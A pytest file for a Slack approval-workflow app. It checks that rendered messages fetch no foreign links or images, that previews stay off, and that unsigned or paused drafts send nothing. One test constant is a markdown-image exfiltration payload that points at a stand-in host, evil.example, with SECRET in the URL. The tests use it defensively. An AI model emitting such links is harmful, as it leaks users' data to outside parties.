"""Nothing leaves by itself: no preview fetches a link, no foreign picture is loaded, and silence sends nothing."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from blocks.kit.problem import walk
from tests.slack import playbooks
from tests.slack.office import ANA, LEE, NOA, SALES
from tests.unit.blocks.test_hostile import everything
from workflows.run import DraftState

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.slack.office import Office

Json = dict[str, Any]

BAIT = "See ![logo](https://evil.example/p.png?q=SECRET) https://evil.example/x <https://evil.example|ok>"


def test_no_screen_holds_a_foreign_address_that_is_fetched() -> None:
    """A picture or a link from somebody's text would tell its owner who read it, and what."""
    for payload in everything(BAIT):
        parts = list(walk(payload))
        assert [part for part in parts if part.get("type") in {"image", "video"}] == []
        addresses = [
            str(part[name]) for part in parts for name in ("url", "image_url") if name in part
        ]
        assert [address for address in addresses if "evil" in address] == []


def test_every_message_is_sent_with_previews_off(office: Office, card: Json) -> None:
    """Posting and redrawing alike, whatever the message is."""
    office.press(NOA, card, "approve")
    office.pass_by(seconds=61)
    office.command(ANA, "/sayso kpi 2026-W46")
    office.pass_by(minutes=5)
    sent = [given for name, given in office.slack.calls if name == "chat.postMessage"]
    assert len(sent) >= 2
    off = {
        str(given.get(flag)).lower() for given in sent for flag in ("unfurl_links", "unfurl_media")
    }
    assert off <= {"false", "0"}
    assert all("unfurl_links" in given and "unfurl_media" in given for given in sent)


def test_silence_sends_nothing(office: Office, card: Json) -> None:
    """Sixty days, a reminder, an expiry and restarts: without a press nothing is ever carried out."""
    for _ in range(6):
        office.pass_by(hours=3)
        office.restart()
    for _ in range(6):
        office.pass_by(days=10)
    assert card["ts"] in office.slack.messages[SALES]
    assert office.mail.effects == []
    (draft,) = [run.draft for run in office.runs() if run.draft]
    assert (draft.state, draft.signatures) == (DraftState.EXPIRED, ())


@pytest.mark.parametrize("when", ["before", "after"])
def test_one_of_two_signatures_is_silence_too(
    opened: Callable[..., Office], home: Path, when: str
) -> None:
    """The second person never comes: half a quorum approves nothing, whoever else edits meanwhile."""
    playbooks.letter(home, quorum=2)
    office = opened()
    office.command(LEE, "/playbook letter to=jo@lark.example")
    office.press(LEE, office.newest(SALES), "approve")
    if when == "after":
        office.press(NOA, office.newest(SALES), "edit")
        office.submit(NOA, {"input:subject": "Other"})
        office.press(NOA, office.newest(SALES), "approve")
    office.pass_by(days=30)
    assert office.mail.effects == []


def test_a_switch_stops_everything_that_was_signed_and_has_not_left(
    opened: Callable[..., Office], home: Path
) -> None:
    """Twenty signed letters on hold and one press: none of them leaves until somebody resumes."""
    playbooks.letter(home)
    office = opened()
    for n in range(20):
        office.command(LEE, f"/playbook letter to=jo{n}@lark.example")
        office.press(NOA, office.newest(SALES), "approve")
    office.command(ANA, "/sayso pause")
    office.pass_by(minutes=2)
    assert office.mail.effects == []
    office.command(ANA, "/sayso resume")
    office.pass_by(minutes=2)
    assert len(office.mail.effects) == 20
